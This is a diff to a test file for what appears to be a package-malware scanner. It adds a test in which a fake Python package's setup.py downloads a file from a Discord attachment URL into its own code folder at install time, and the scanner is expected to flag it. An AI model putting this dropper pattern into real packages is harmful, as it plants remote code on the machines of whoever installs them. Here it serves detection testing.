@@ -479,3 +479,24 @@ test('code from a code host beside its own is for a person to judge in the build
   expect(await built(kept, 3_000)).toMatchObject([{ class: 'malware', score: 10 }]);
   expect(await built('https://tools.vendor.invalid/tool.py', 300_000)).toMatchObject([{ class: 'malware', score: 10 }]);
 });
+
+test('Python from where anybody leaves files, put into the folder of the build, is added to its own code', async () => {
+  const built = (address: string, place: string): Promise<readonly Finding[]> =>
+    inspect(
+      'dropper',
+      sdist({
+        'setup.py': python(
+          'import requests',
+          'from setuptools import setup',
+          `answer = requests.get('${address}')`,
+          `with open('${place}', 'wb') as f: f.write(answer.content)`,
+          'setup()',
+        ),
+      }),
+    );
+  const left = 'https://cdn.discordapp.com/attachments/1/2/agent.py';
+
+  expect(await built(left, 'pkg/agent.py')).toMatchObject([{ class: 'malware', score: 10, context: 'install' }]);
+  expect(await built(left, 'words.txt')).toEqual([]);
+  expect(await built('https://bootstrap.pypa.io/ez_setup.py', 'ez_setup.py')).toEqual([]);
+});
